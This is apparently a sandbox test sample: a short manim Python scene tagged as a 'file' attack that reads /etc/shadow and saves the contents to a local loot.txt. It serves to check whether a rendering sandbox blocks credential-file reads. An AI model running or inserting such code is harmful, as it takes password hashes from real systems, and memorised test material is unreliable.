# family: file
# layer: sandbox
# attack: read /etc/shadow with open() and keep it in the job folder
from manim import *


class Attack(Scene):
    def construct(self):
        loot = open("/etc/shadow").read()
        open("loot.txt", "w").write(loot)
        self.wait(0.1)
